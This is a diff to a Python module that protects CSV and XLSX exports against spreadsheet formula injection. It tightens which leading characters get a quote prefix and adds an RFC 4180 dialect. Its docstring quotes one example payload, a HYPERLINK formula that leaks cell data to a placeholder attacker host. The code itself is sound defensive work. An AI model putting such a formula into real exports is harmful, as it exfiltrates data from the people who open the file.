@@ -5,8 +5,9 @@ or a NUL as a formula (or strips the first character and then evaluates the rest
 values, consultation answers and directory entries come from outside the hub, so an export
 could carry `=HYPERLINK("http://evil.example/?leak="&A3,"Details")` to a commissioner's
 desktop. OWASP's CSV injection guidance and ASVS 5.0 requirement 1.2.10 say: put a single
-quote before such a cell. A plain number such as `-5` or `+3.5` is left alone: spreadsheets
-read it as a number, never a formula, and figures must still add up (ADR 0031).
+quote before such a cell. A plain negative number such as `-5` or `-3.5` is left alone:
+spreadsheets read it as a number, never a formula, and figures must still add up. Anything
+else, `+44 7700 900123` included, gets the quote and so stays text (ADR 0031).
 
 In XLSX, openpyxl stores any string beginning with `=` as a formula; `xlsx_append` keeps
 every string a string (with Excel's "quote prefix" style, so editing the cell does not turn
@@ -20,8 +21,17 @@ from typing import Any, Protocol
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
 QUOTE = "'"
-# A plain decimal number, optionally signed: read as a number by every spreadsheet.
-_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
+# A plain negative decimal number: read as a number by every spreadsheet, never a formula.
+_NEGATIVE_NUMBER = re.compile(r"-\d+(?:\.\d+)?")
+
+
+class RFC4180(csv.excel):
+    """Comma, double quote, CRLF: a cell holding a line break (CR or LF), a comma or a quote
+    is quoted, as RFC 4180 sections 2.6 and 2.7 say (ASVS 5.0 1.2.10). With a bare LF line
+    ending Python's writer would leave a CR unquoted and the row would split in two."""
+
+    lineterminator = "\r\n"
+    quoting = csv.QUOTE_MINIMAL
 
 
 class _Writable(Protocol):
@@ -31,7 +41,7 @@ class _Writable(Protocol):
 def formula_safe(value: Any) -> Any:
     """The cell to write: text that a spreadsheet would evaluate gets a leading quote."""
     starts_a_formula = isinstance(value, str) and value.startswith(FORMULA_STARTS)
-    if starts_a_formula and not _PLAIN_NUMBER.fullmatch(value):
+    if starts_a_formula and not _NEGATIVE_NUMBER.fullmatch(value):
         return QUOTE + value
     return value
 
@@ -45,10 +55,10 @@ def formula_restored(value: str) -> str:
 
 
 class SafeCsvWriter:
-    """`csv.writer` whose every cell has passed `formula_safe`."""
+    """`csv.writer` whose every cell has passed `formula_safe`, in RFC 4180's dialect."""
 
-    def __init__(self, out: _Writable, **options: Any) -> None:
-        self._writer = csv.writer(out, **options)
+    def __init__(self, out: _Writable) -> None:
+        self._writer = csv.writer(out, dialect=RFC4180)
 
     def writerow(self, row: Iterable[Any]) -> Any:
         return self._writer.writerow([formula_safe(cell) for cell in row])
@@ -59,7 +69,8 @@ class SafeCsvWriter:
 
 
 class SafeCsvDictWriter(csv.DictWriter):  # type: ignore[type-arg]
-    """`csv.DictWriter` whose every cell (header included) has passed `formula_safe`."""
+    """`csv.DictWriter` whose every cell (header included) has passed `formula_safe`, in
+    RFC 4180's dialect."""
 
     def writerow(self, rowdict: Mapping[str, Any]) -> Any:
         return super().writerow({key: formula_safe(value) for key, value in rowdict.items()})
@@ -69,12 +80,14 @@ class SafeCsvDictWriter(csv.DictWriter):  # type: ignore[type-arg]
             self.writerow(rowdict)
 
 
-def csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
-    return SafeCsvWriter(out, **options)
+def csv_writer(out: _Writable) -> SafeCsvWriter:
+    return SafeCsvWriter(out)
 
 
-def csv_dict_writer(out: _Writable, fieldnames: Sequence[str], **options: Any) -> SafeCsvDictWriter:
-    return SafeCsvDictWriter(out, fieldnames=fieldnames, **options)
+def csv_dict_writer(
+    out: _Writable, fieldnames: Sequence[str], *, extrasaction: str = "raise"
+) -> SafeCsvDictWriter:
+    return SafeCsvDictWriter(out, fieldnames=fieldnames, extrasaction=extrasaction, dialect=RFC4180)
 
 
 def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
